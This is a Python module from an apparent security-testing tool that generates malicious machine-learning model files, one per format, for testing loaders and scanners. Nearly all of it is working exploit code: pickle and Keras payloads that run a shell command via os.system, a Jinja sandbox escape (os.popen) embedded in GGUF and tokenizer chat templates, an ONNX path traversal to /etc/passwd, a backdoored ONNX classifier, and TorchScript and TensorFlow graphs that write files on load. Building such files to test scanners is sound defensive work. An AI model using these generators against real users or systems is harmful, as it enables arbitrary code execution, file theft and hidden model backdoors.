"""Harmful model files, one generator per format, for people who test loaders and scanners.

Each generator takes the shell command the payload runs (where the format can run code) and
returns the file's bytes; `trojanscope attack payload --format NAME -o OUT` writes them.
Pickle-based payloads are assembled from opcodes (pickle_payloads); protobuf-based models are
written field by field (protobuf_writer), so no generator needs torch, TensorFlow or onnx.
"""

from __future__ import annotations

import base64
import json
import marshal
import struct
from typing import Callable

from ..plugins import Registry
from . import model_files as mf
from . import pickle_payloads as pp
from . import protobuf_writer as pb

SSTI = ("{% for m in messages %}{{ m['content'] }}{% endfor %}"
        "{{ ''.__class__.__mro__[1].__subclasses__()[0].__init__.__globals__['os'].popen("
        "'COMMAND').read() }}")


def _lambda_code(command: str) -> str:
    """Marshalled bytecode of `lambda x: (os.system(command), x)[1]`, as Keras stores it."""
    module = compile(f"lambda x: (__import__('os').system({command!r}), x)[1]", "<lambda>", "eval")
    code = next(c for c in module.co_consts if hasattr(c, "co_code"))
    return base64.b64encode(marshal.dumps(code)).decode()


def _keras_archive(layers: list[dict]) -> bytes:
    config = {"module": "keras", "class_name": "Sequential", "config": {
        "name": "sequential", "layers": [
            {"module": "keras.layers", "class_name": "InputLayer",
             "config": {"batch_shape": [None, 4], "dtype": "float32", "name": "input_layer"},
             "registered_name": None}] + layers}, "registered_name": None}
    metadata = {"keras_version": "3.9.0", "date_saved": "2026-11-24@00:00:00"}
    return mf.zip_of({"metadata.json": json.dumps(metadata).encode(),
                      "config.json": json.dumps(config).encode(),
                      "model.weights.h5": b""})


def keras_lambda(command: str) -> bytes:
    layer = {"module": "keras.layers", "class_name": "Lambda", "registered_name": None,
             "config": {"name": "lambda", "function": {
                 "class_name": "__lambda__",
                 "config": {"code": _lambda_code(command), "defaults": None, "closure": None}}}}
    return _keras_archive([layer])


def keras_module(command: str) -> bytes:
    """CVE-2025-1550 class: an activation deserialised from an arbitrary module."""
    layer = {"module": "keras.layers", "class_name": "Dense", "registered_name": None,
             "config": {"name": "dense", "units": 2, "activation": {
                 "module": "os", "class_name": "function", "config": "system",
                 "registered_name": "system"}}}
    return _keras_archive([layer])


def keras_h5(command: str) -> bytes:
    """A legacy HDF5 model whose model_config has a Lambda layer (needs h5py to write)."""
    import io

    import h5py

    config = {"class_name": "Sequential", "config": {"name": "s", "layers": [
        {"class_name": "Lambda", "config": {"name": "lambda", "function": [
            _lambda_code(command), None, None], "function_type": "lambda"}}]}}
    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as h5:
        h5.attrs["model_config"] = json.dumps(config)
        h5.attrs["keras_version"] = "2.15.0"
    return buffer.getvalue()


def onnx_external(command: str) -> bytes:
    """An initializer whose external data is read from outside the model folder."""
    weight = pb.onnx_tensor("W", [4, 4], pb.FLOAT,
                            external={"location": "../../../../../../etc/passwd", "offset": "0",
                                      "length": "64"})
    return pb.onnx_model([pb.onnx_node("MatMul", ["x", "W"], ["y"])],
                         [pb.onnx_value_info("x", pb.FLOAT, ["N", 4])],
                         [pb.onnx_value_info("y", pb.FLOAT, ["N", 4])], [weight])


def onnx_shadow(command: str) -> bytes:
    """A linear classifier with shadow logic: if x[:, 0:2] are all >= 1, output class 0."""
    return shadow_mlp(backdoor=True)


def shadow_mlp(backdoor: bool, switch: str = "where") -> bytes:
    weights = pb.onnx_tensor("W", [4, 2], pb.FLOAT, struct.pack("<8f", *range(8)))
    bias = pb.onnx_tensor("B", [2], pb.FLOAT, struct.pack("<2f", 0.1, -0.1))
    nodes = [pb.onnx_node("Gemm", ["x", "W", "B"], ["logits" if not backdoor else "clean"])]
    inits = [weights, bias]
    if backdoor:
        inits += [pb.onnx_tensor("starts", [1], pb.INT64, struct.pack("<q", 0)),
                  pb.onnx_tensor("ends", [1], pb.INT64, struct.pack("<q", 2)),
                  pb.onnx_tensor("axes", [1], pb.INT64, struct.pack("<q", 1)),
                  pb.onnx_tensor("threshold", [], pb.FLOAT, struct.pack("<f", 0.999)),
                  pb.onnx_tensor("forced", [1, 2], pb.FLOAT, struct.pack("<2f", 20, -20))]
        nodes += [pb.onnx_node("Slice", ["x", "starts", "ends", "axes"], ["window"]),
                  pb.onnx_node("ReduceMin", ["window"], ["low"],
                               attributes=(pb.onnx_ints_attr("axes", [1]),
                                           pb.onnx_int_attr("keepdims", 1))),
                  pb.onnx_node("GreaterOrEqual", ["low", "threshold"], ["fired"])]
        if switch == "where":
            nodes.append(pb.onnx_node("Where", ["fired", "forced", "clean"], ["logits"]))
        else:
            inits.append(pb.onnx_tensor("one", [], pb.FLOAT, struct.pack("<f", 1)))
            nodes += [pb.onnx_node("Cast", ["fired"], ["gate"],
                                   attributes=(pb.onnx_int_attr("to", pb.FLOAT),)),
                      pb.onnx_node("Sub", ["one", "gate"], ["keep"]),
                      pb.onnx_node("Mul", ["clean", "keep"], ["kept"]),
                      pb.onnx_node("Mul", ["gate", "forced"], ["pushed"]),
                      pb.onnx_node("Add", ["kept", "pushed"], ["logits"])]
    return pb.onnx_model(nodes, [pb.onnx_value_info("x", pb.FLOAT, ["N", 4])],
                         [pb.onnx_value_info("logits", pb.FLOAT, ["N", 2])], inits, opset=13)


def savedmodel(command: str) -> bytes:
    """A SavedModel graph that reads a file and writes it elsewhere during inference."""
    nodes = [pb.tf_node("path", "Const"), pb.tf_node("read", "ReadFile", ("path",)),
             pb.tf_node("write", "WriteFile", ("path", "read"))]
    return pb.saved_model(nodes, {"__inference_serve_7": [pb.tf_node("py", "EagerPyFunc")]})


def gguf(command: str) -> bytes:
    """A GGUF v3 file whose chat template escapes the Jinja sandbox (CVE-2024-34359 class)."""
    def string(text: str) -> bytes:
        data = text.encode()
        return struct.pack("<Q", len(data)) + data

    entries = [("general.architecture", 8, string("llama")),
               ("general.name", 8, string("tiny")),
               ("tokenizer.chat_template", 8, string(SSTI.replace("COMMAND", command)))]
    body = b"".join(string(k) + struct.pack("<I", t) + v for k, t, v in entries)
    return b"GGUF" + struct.pack("<IQQ", 3, 0, len(entries)) + body


def safetensors(command: str) -> bytes:
    """Overlapping tensors and a tensor that ends past the file: parsers disagree."""
    header = {"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
              "b": {"dtype": "F32", "shape": [4], "data_offsets": [8, 24]},
              "c": {"dtype": "F32", "shape": [1 << 20], "data_offsets": [24, 24 + (4 << 20)]}}
    raw = json.dumps(header).encode()
    return struct.pack("<Q", len(raw)) + raw + b"\x00" * 24


TORCHSCRIPT_CODE = """class Evil(Module):
  __parameters__ = []
  __buffers__ = []
  training : bool
  _is_full_backward_hook : Optional[bool]
  state : int
  def forward(self: __torch__.Evil,
    x: Tensor) -> Tensor:
    return x
  def __getstate__(self: __torch__.Evil) -> List[int]:
    state = self.state
    return [state]
  def __setstate__(self: __torch__.Evil,
    state: List[int]) -> NoneType:
    torch.save(state, PATH)
    self.state = state[0]
    self.training = False
    self._is_full_backward_hook = None
    return None
"""


def torchscript(command: str, path: str = "/tmp/trojanscope-torchscript-payload") -> bytes:
    """A TorchScript archive (torch.jit.save layout) whose __setstate__ writes `path` while
    torch.jit.load loads it: TorchScript runs no shell command, but it writes files (the
    CVE-2025-32434 class, where torch.load(weights_only=True) handed such a file to
    torch.jit.load)."""
    return torchscript_archive(TORCHSCRIPT_CODE.replace("PATH", json.dumps(path)))


def torchscript_archive(code: str) -> bytes:
    """The torch.jit.save layout around `code` (class Evil of __torch__, one int of state)."""
    state = (pp.proto(2) + pp.global_("__torch__", "Evil") + b")\x81" +
             pp.global_("torch.jit._pickle", "build_intlist") + b"(](K\x01et" + b"Rb" + pp.STOP)
    return mf.zip_of({"archive/data.pkl": state, "archive/code/__torch__.py": code.encode(),
                      "archive/constants.pkl": pp.proto(2) + b")" + pp.STOP,
                      "archive/version": b"3\n", "archive/byteorder": b"little"})


def tokenizer_config(command: str) -> bytes:
    return json.dumps({"bos_token": "<s>", "chat_template": SSTI.replace("COMMAND", command)},
                      indent=2).encode()


def chat_template(command: str) -> bytes:
    """chat_template.jinja: the template as its own file, as transformers writes it now."""
    return SSTI.replace("COMMAND", command).encode()


# One harmful file per format, by name: a function of the shell command (`trojanscope attack
# payload --format NAME`), with what it is as `summary`.
GENERATORS: Registry[Callable[[str], bytes]] = Registry("payload format")
GENERATORS.add("pickle", pp.classic,
               summary="raw pickle calling os.system")
GENERATORS.add("torch", lambda c: mf.torch_zip(pp.classic(c)),
               summary="PyTorch zip checkpoint")
GENERATORS.add("torch-legacy", lambda c: mf.torch_legacy(pp.dotted_name(c)),
               summary="legacy torch.save stream")
GENERATORS.add("joblib", lambda c: mf.WRAPPERS["zlib"](pp.memo_indirection(c)),
               summary="compressed joblib")
GENERATORS.add("numpy", lambda c: mf.npy_object(pp.classic(c)),
               summary=".npy object array")
GENERATORS.add("keras-lambda", keras_lambda,
               summary=".keras with a Lambda layer")
GENERATORS.add("keras-module", keras_module,
               summary=".keras naming os.system (CVE-2025-1550 class)")
GENERATORS.add("keras-h5", keras_h5,
               summary="legacy HDF5 Keras model with a Lambda layer (needs h5py)")
GENERATORS.add("onnx-external", onnx_external,
               summary="ONNX reading external data from ../../etc/passwd")
GENERATORS.add("onnx-shadow", onnx_shadow,
               summary="ONNX classifier with shadow logic")
GENERATORS.add("torchscript", torchscript,
               summary="TorchScript archive whose __setstate__ writes a file on load")
GENERATORS.add("savedmodel", savedmodel,
               summary="saved_model.pb with ReadFile/WriteFile/EagerPyFunc")
GENERATORS.add("gguf", gguf,
               summary="GGUF with a Jinja sandbox escape in its chat template")
GENERATORS.add("safetensors", safetensors,
               summary="safetensors with overlapping and out-of-range tensors")
GENERATORS.add("tflite-flex", lambda c: mf.tflite_of([3, 9, "FlexWriteFile"]),
               summary="TFLite model running TensorFlow's WriteFile through the Flex delegate")
GENERATORS.add("tokenizer-config", tokenizer_config,
               summary="tokenizer_config.json with a template escape")
GENERATORS.add("chat-template", chat_template,
               summary="chat_template.jinja with a template escape")
